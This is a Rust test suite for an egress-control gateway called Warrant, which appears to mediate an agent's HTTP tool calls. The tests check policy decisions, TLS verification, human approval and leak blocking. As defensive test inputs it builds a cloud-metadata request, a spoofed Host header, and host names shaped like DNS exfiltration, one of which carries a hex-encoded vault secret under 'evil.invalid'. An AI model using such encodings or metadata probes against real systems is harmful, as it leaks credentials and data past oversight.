//! `warrant__http_request`: Warrant makes the request through its egress
//! rules (forbidden ranges, policy per host, recorded first) and verifies
//! TLS.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use warrant_test_support::{Warrant, audit_records, client, wait_for_pending};

const BIN: &str = env!("CARGO_BIN_EXE_warrant");

const POLICY: &str = r#"
@id("tools") permit (principal, action == Action::"call_tool", resource);
@id("local-hosts") permit (principal, action == Action::"connect", resource)
when { resource.name == "127.0.0.1" || resource.name == "localhost" };
"#;

/// Plain HTTP on 127.0.0.1: answers every request with its request line.
fn plain_server() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buf = [0_u8; 8192];
            let n = stream.read(&mut buf).unwrap_or(0);
            let head = String::from_utf8_lossy(&buf[..n]).into_owned();
            let body = format!("plain saw: {}", head.lines().next().unwrap_or(""));
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// HTTPS on 127.0.0.1 with a certificate for 127.0.0.1 from a fresh CA;
/// returns the port and the CA in PEM.
fn tls_server() -> (u16, String) {
    let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca = rcgen::CertifiedIssuer::self_signed(ca_params, rcgen::KeyPair::generate().unwrap())
        .unwrap();
    let leaf_key = rcgen::KeyPair::generate().unwrap();
    let leaf = rcgen::CertificateParams::new(vec!["127.0.0.1".to_owned()])
        .unwrap()
        .signed_by(&leaf_key, &ca)
        .unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
        )
        .unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async move {
            let listener = tokio::net::TcpListener::from_std(listener).unwrap();
            let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
            loop {
                let Ok((tcp, _)) = listener.accept().await else { continue };
                let acceptor = acceptor.clone();
                tokio::spawn(async move {
                    let Ok(mut tls) = acceptor.accept(tcp).await else { return };
                    let mut buf = vec![0_u8; 8192];
                    let n = tls.read(&mut buf).await.unwrap_or(0);
                    let head = String::from_utf8_lossy(&buf[..n]).into_owned();
                    let body = format!("tls saw: {}", head.lines().next().unwrap_or(""));
                    let response = format!(
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    let _ = tls.write_all(response.as_bytes()).await;
                    let _ = tls.shutdown().await;
                });
            }
        });
    });
    (port, ca.pem())
}

fn request(url: &str) -> Value {
    json!({"op": "call", "tool": "warrant__http_request", "arguments": {"url": url}})
}

#[test]
fn requests_go_through_the_egress_rules_and_tls_is_verified() {
    let w = Warrant::new(BIN);
    std::fs::write(w.home().join("policy/default.cedar"), POLICY).unwrap();
    let plain = plain_server();
    let (tls, ca) = tls_server();
    let ca_file = w.dir.path().join("test-ca.pem");
    std::fs::write(&ca_file, ca).unwrap();
    w.configure_egress(&format!(
        "allow_private = [\"127.0.0.0/8\"]\nca_certificates = [{:?}]",
        ca_file.display().to_string()
    ));

    let (_, token) = w.spawn_agent("fetcher", &[]);
    let gw = w.up();
    let out = client(
        &gw.url,
        Some(&token),
        &json!([
            request(&format!("http://127.0.0.1:{plain}/hello?q=1")),
            request(&format!("https://127.0.0.1:{tls}/secure")),
            request(&format!("https://localhost:{tls}/wrong-name")),
            request("http://169.254.169.254/latest/meta-data/"),
            request(&format!("http://127.0.0.2:{plain}/not-permitted")),
            {"op": "call", "tool": "warrant__http_request",
             "arguments": {"url": format!("http://127.0.0.1:{plain}/"), "headers": {"Host": "evil.example"}}},
        ]),
    );
    let text = |i: usize| out["results"][i]["text"].as_str().unwrap_or_default().to_owned();
    let is_error = |i: usize| out["results"][i]["is_error"].as_bool().unwrap_or(true);

    let answered: Value = serde_json::from_str(&text(0)).unwrap_or_else(|_| panic!("{out}"));
    assert_eq!(answered["status"], 200);
    assert_eq!(answered["body"], "plain saw: GET /hello?q=1 HTTP/1.1", "{answered}");
    let secure: Value = serde_json::from_str(&text(1)).unwrap_or_else(|_| panic!("{out}"));
    assert_eq!(secure["body"], "tls saw: GET /secure HTTP/1.1", "{secure}");
    // The certificate names 127.0.0.1, not localhost: verification refuses.
    assert!(is_error(2) && text(2).contains("TLS"), "{}", text(2));
    assert!(is_error(3) && text(3).contains("link-local"), "{}", text(3));
    assert!(is_error(4) && text(4).contains("no policy permits"), "{}", text(4));
    assert!(is_error(5) && text(5).contains("set by Warrant"), "{}", text(5));

    let records = audit_records(&w);
    let decisions: Vec<&Value> =
        records.iter().filter(|r| r["kind"] == "egress_decision").collect();
    assert!(
        decisions
            .iter()
            .any(|r| r["body"]["host"] == "127.0.0.1" && r["body"]["outcome"] == "allow")
    );
    assert!(
        decisions
            .iter()
            .any(|r| r["body"]["host"] == "127.0.0.2" && r["body"]["outcome"] == "deny")
    );
    assert!(
        decisions.iter().all(|r| r["body"]["custody"].as_array().is_some_and(|c| c.len() == 2))
    );
    assert!(records.iter().any(|r| r["kind"] == "egress_refused"));
    drop(gw);
}

#[test]
fn a_connection_policy_asks_about_waits_for_a_person_inside_the_tool_too() {
    let w = Warrant::new(BIN);
    let plain = plain_server();
    std::fs::write(
        w.home().join("policy/default.cedar"),
        format!(
            r#"{POLICY}
@id("ask-before-local") @ask("a local service")
forbid (principal, action == Action::"connect", resource) when {{ context.port == {plain} }};"#
        ),
    )
    .unwrap();
    w.configure_egress("allow_private = [\"127.0.0.1\"]");
    let (_, token) = w.spawn_agent("fetcher", &[]);
    let gw = w.up();
    let (url, t) = (gw.url.clone(), token.clone());
    let calls = std::thread::spawn(move || {
        client(
            &url,
            Some(&t),
            &json!([
                request(&format!("http://127.0.0.1:{plain}/approved")),
                request(&format!("http://127.0.0.1:{plain}/denied")),
            ]),
        )
    });
    let subject = format!("egress: GET 127.0.0.1:{plain}");
    let first = wait_for_pending(&w, &subject);
    assert_eq!(first["tool"], format!("egress: GET 127.0.0.1:{plain}"), "{first}");
    assert_eq!(
        (first["rule"].as_str(), first["agent_name"].as_str()),
        (Some("ask-before-local"), Some("fetcher"))
    );
    assert_eq!(w.run(&["approve", first["id"].as_str().unwrap(), "--by", "carol"]).code, 0);
    let second = wait_for_pending(&w, &subject);
    assert_ne!(second["id"], first["id"]);
    assert_eq!(w.run(&["deny", second["id"].as_str().unwrap(), "--by", "dave"]).code, 0);

    let out = calls.join().unwrap();
    let approved = out["results"][0]["text"].as_str().unwrap_or_default();
    assert!(approved.contains("plain saw: GET /approved"), "{out}");
    let denied = out["results"][1]["text"].as_str().unwrap_or_default();
    assert!(denied.contains("a person (dave) denied this connection"), "{out}");
    assert!(!denied.contains("plain saw"), "{out}");
    let records = audit_records(&w);
    let outcomes: Vec<&str> = records
        .iter()
        .filter(|r| r["kind"] == "approval_resolved" && r["body"]["outcome"].is_string())
        .map(|r| r["body"]["outcome"].as_str().unwrap())
        .collect();
    assert_eq!(outcomes, ["approved", "denied"]);
    drop(gw);
}

/// A name shaped like a DNS exfiltration: data in the leftmost label, under
/// a domain that never resolves (RFC 6761), so a lookup would show as a
/// resolution failure instead of the decision.
const EXFIL_HOST: &str = "736563726574206461746120686572650a.exfil.invalid";

#[test]
fn a_name_policy_does_not_permit_is_denied_before_it_is_looked_up() {
    let w = Warrant::new(BIN);
    std::fs::write(w.home().join("policy/default.cedar"), POLICY).unwrap();
    let (_, token) = w.spawn_agent("fetcher", &[]);
    let gw = w.up();
    let out = client(
        &gw.url,
        Some(&token),
        &json!([
            request(&format!("http://{EXFIL_HOST}/x")),
            request(&format!("https://{EXFIL_HOST}/x")),
        ]),
    );
    for i in 0..2 {
        let text = out["results"][i]["text"].as_str().unwrap_or_default();
        assert!(text.contains("no policy permits"), "{out}");
        assert!(!text.contains("resolv"), "the name was looked up before policy: {out}");
    }
    let records = audit_records(&w);
    let denied = records.iter().filter(|r| {
        r["kind"] == "egress_decision"
            && r["body"]["host"] == EXFIL_HOST
            && r["body"]["outcome"] == "deny"
    });
    assert_eq!(denied.count(), 2, "{records:?}");
    assert!(!records.iter().any(|r| r["kind"] == "egress_refused"), "{records:?}");
    drop(gw);
}

#[test]
fn a_name_policy_asks_about_is_looked_up_only_after_the_approval_and_the_person_sees_it() {
    let w = Warrant::new(BIN);
    std::fs::write(
        w.home().join("policy/default.cedar"),
        format!(
            r#"{POLICY}
@id("invalid-hosts") permit (principal, action == Action::"connect", resource)
when {{ resource.name like "*.invalid" }};
@id("ask-invalid") @ask("an unknown domain")
forbid (principal, action == Action::"connect", resource) when {{ resource.name like "*.invalid" }};"#
        ),
    )
    .unwrap();
    let (_, token) = w.spawn_agent("fetcher", &[]);
    let gw = w.up();
    let (url, t) = (gw.url.clone(), token.clone());
    let calls = std::thread::spawn(move || {
        client(
            &url,
            Some(&t),
            &json!([
                request(&format!("http://{EXFIL_HOST}/pay?to=bob")),
                {"op": "call", "tool": "warrant__http_request",
                 "arguments": {"url": format!("https://{EXFIL_HOST}/v1/charges"), "method": "POST"}},
            ]),
        )
    });
    let first = wait_for_pending(&w, &format!("egress: GET {EXFIL_HOST}:80"));
    assert_eq!(
        first["arguments"],
        json!({"scheme": "http", "host": EXFIL_HOST, "port": 80, "method": "GET", "path": "/pay?to=bob"}),
        "{first}"
    );
    assert_eq!(w.run(&["deny", first["id"].as_str().unwrap(), "--by", "dave"]).code, 0);
    // A tunnel's request is known to the tool: the person sees it, not CONNECT.
    let second = wait_for_pending(&w, &format!("egress: POST {EXFIL_HOST}:443"));
    assert_eq!(
        second["arguments"],
        json!({"scheme": "https", "host": EXFIL_HOST, "port": 443, "method": "POST", "path": "/v1/charges"}),
        "{second}"
    );
    assert_eq!(w.run(&["approve", second["id"].as_str().unwrap(), "--by", "carol"]).code, 0);

    let out = calls.join().unwrap();
    let denied = out["results"][0]["text"].as_str().unwrap_or_default();
    assert!(denied.contains("a person (dave) denied this connection"), "{out}");
    assert!(!denied.contains("resolv"), "looked up although the person denied: {out}");
    // Approved, and only then looked up: `.invalid` does not resolve.
    let approved = out["results"][1]["text"].as_str().unwrap_or_default();
    assert!(approved.contains("resolv"), "{out}");
    let records = audit_records(&w);
    let refused: Vec<&Value> = records.iter().filter(|r| r["kind"] == "egress_refused").collect();
    assert_eq!(refused.len(), 1, "only the approved name was looked up: {records:?}");
    drop(gw);
}

#[test]
fn a_vault_secret_in_a_host_name_is_blocked_as_a_leak_and_never_decided() {
    const SECRET: &str = "s3cr3t-Value-0123456789abcdef";
    let w = Warrant::new(BIN);
    w.set_env("WARRANT_VAULT_PASSPHRASE", "correct horse battery staple");
    let out = w.run_with_input(&["vault", "add", "github", "--host", "api.github.com"], SECRET);
    assert_eq!(out.code, 0, "{}", out.stderr);
    std::fs::write(
        w.home().join("policy/default.cedar"),
        format!(
            r#"{POLICY}
@id("any-host") permit (principal, action == Action::"connect", resource);"#
        ),
    )
    .unwrap();
    let (_, token) = w.spawn_agent("fetcher", &[]);
    let gw = w.up();
    let hex: String = SECRET.bytes().map(|b| format!("{b:02x}")).collect();
    let (head, tail) = hex.split_at(30);
    let out = client(
        &gw.url,
        Some(&token),
        &json!([
            request(&format!("http://{hex}.evil.invalid/")),
            request(&format!("https://{head}.{tail}.evil.invalid/")),
        ]),
    );
    for i in 0..2 {
        let text = out["results"][i]["text"].as_str().unwrap_or_default();
        assert!(text.contains("blocked") && text.contains("github"), "{out}");
        assert!(!text.contains("resolv"), "{out}");
    }
    let records = audit_records(&w);
    let of = |kind: &str| records.iter().filter(|r| r["kind"] == kind).count();
    assert_eq!(of("leak_blocked"), 2, "{records:?}");
    assert_eq!(of("egress_decision"), 0, "a name carrying a secret was put to policy");
    assert_eq!(of("egress_refused"), 0, "{records:?}");
    let log = serde_json::to_string(&records).unwrap();
    assert!(!log.contains(head) && !log.contains(tail), "the audit log holds the secret");
    drop(gw);
}
